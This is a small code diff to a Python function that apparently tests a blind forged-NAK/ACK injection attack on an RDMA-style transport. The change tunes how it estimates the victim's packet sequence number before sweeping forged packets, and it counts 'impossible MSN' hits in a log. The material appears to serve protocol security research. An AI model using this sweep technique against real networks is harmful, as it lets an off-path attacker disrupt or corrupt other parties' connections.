@@ -142,8 +142,9 @@ def blind_naks_beside_traffic(w):
     a.victim.busy = True
     sent = hits = 0
     while hits < 3:
-        here = a.psn_out + a.count("tx_packets") * 32 // 17  # a round: 16 packets and a READ of 16
-        r = Forger(w, B).sweep(a.victim, ACK, a.qpn, here, 1 << 18, "psn", [("stale_responses", a.qpn)])
+        news = a.count("tx_packets") - a.count("retransmits") - a.count("probes")
+        here = a.psn_out + news * 32 // 17  # a round: 16 packets and a READ of 16
+        r = Forger(w, B).sweep(a.victim, ACK, a.qpn, here - (1 << 15), 1 << 18, "psn", [("stale_responses", a.qpn)])
         sent += r["sent"]
         with open(w.tmp + "/log", encoding="ascii") as log:
             hits = log.read().count("impossible MSN")
